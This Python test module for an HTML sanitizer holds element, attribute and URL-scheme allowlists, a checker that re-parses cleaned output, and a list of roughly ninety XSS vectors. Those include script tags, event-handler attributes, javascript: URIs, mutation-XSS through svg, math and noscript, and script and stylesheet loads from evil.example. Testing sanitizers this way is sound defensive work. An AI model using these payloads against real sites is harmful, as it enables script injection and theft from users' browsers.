"""Vectors against an HTML cleaner, written for these tests, and the check that nothing is left of one."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import lxml.html

# fmt: off
ELEMENTS = frozenset((
    "p", "div", "br", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "table",
    "caption", "thead", "tbody", "tfoot", "tr", "td", "th", "colgroup", "col", "blockquote", "pre", "code",
    "hr", "figure", "figcaption", "img", "a", "em", "strong", "b", "i", "u", "s", "del", "ins", "small",
    "mark", "q", "cite", "kbd", "samp", "var", "sub", "sup", "ruby", "rt", "rp", "time", "wbr", "details",
    "summary", "audio", "video", "source",
))
# fmt: on
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height"},
    "audio": {"src", "controls"},
    "video": {"src", "poster", "controls", "width", "height"},
    "source": {"src", "type"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "ol": {"start"},
    "time": {"datetime"},
}
LINKS = {"href", "src", "poster"}

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR = 'alert(1)'>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x00=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src='java\nscript:alert(1)'>",
    "<img src='&#106;avascript:alert(1)'>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img data-src=javascript:alert(1) src=x.gif>",
    "<img srcset='javascript:alert(1) 2x, data:text/html,x 3x'>",
    "<img src=x style='background:url(javascript:alert(1))'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&#x0A;script&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='view-source:http://evil.example'>x</a>",
    "<a href='mailto:a@example.org\"onclick=\"alert(1)'>x</a>",
    "<a href='http://e.example/\"onmouseover=\"alert(1)'>x</a>",
    "<a href='x' ping=http://evil.example target=_top download onclick=alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></math>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)><param name=x value=y></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x.class></applet>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<p style='width:expression(alert(1))'>x</p>",
    "<div style='position:fixed;top:0' class=x id=y onclick=alert(1)>x</div>",
    "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "</textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video poster=javascript:alert(1) src=javascript:alert(1) onloadstart=alert(1)>",
    "<video><source onerror=alert(1) src=javascript:alert(1)></video>",
    "<audio src=x onloadeddata=alert(1) autoplay>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1) background=javascript:alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<select><option><script>alert(1)</script></option></select>",
    "<p title='<script>alert(1)</script>' onmouseover=alert(1)>x",
    "<img alt='\"><script>alert(1)</script>' src=x.gif>",
    "<a title='&lt;/a&gt;&lt;script&gt;alert(1)&lt;/script&gt;' href=/x>y</a>",
    "<img src=`x`onerror=alert(1)>",
    "<ruby onclick=alert(1)><rt onload=alert(1)>x</ruby>",
    "<time datetime='\"><script>alert(1)</script>'>x</time>",
    "<ol start='javascript:alert(1)'><li value=1>x</ol>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufeff<script>alert(1)</script>",
    "<s\x00cript>alert(1)</s\x00cript>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<a href=http://e.example/><a href=javascript:alert(1)>x</a></a>",
    "<p><b><table><a href=javascript:alert(1)><tr><td>x",
)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("!", {}))

    def handle_pi(self, data: str) -> None:
        self.found.append(("?", {}))


def assert_harmless(html: str) -> None:
    """Fails where either of two parsers finds an element, attribute or link that may not be in `html`."""
    tags = _Tags()
    tags.feed(html)
    tags.close()
    found = tags.found
    if html.strip():
        root = lxml.html.fragment_fromstring(html, create_parent="div")
        found = found + [(str(e.tag), dict(e.attrib)) for e in root.iterdescendants()]
    for tag, attributes in found:
        assert tag in ELEMENTS, f"<{tag}> in {html!r}"
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), f"<{tag} {attributes}> in {html!r}"
        for name in LINKS & attributes.keys():
            scheme = urlsplit(attributes[name] or "").scheme
            allowed = {"http", "https", "mailto", "tel"} if name == "href" else {"http", "https"}
            assert scheme in allowed, f"{attributes[name]!r} in {html!r}"
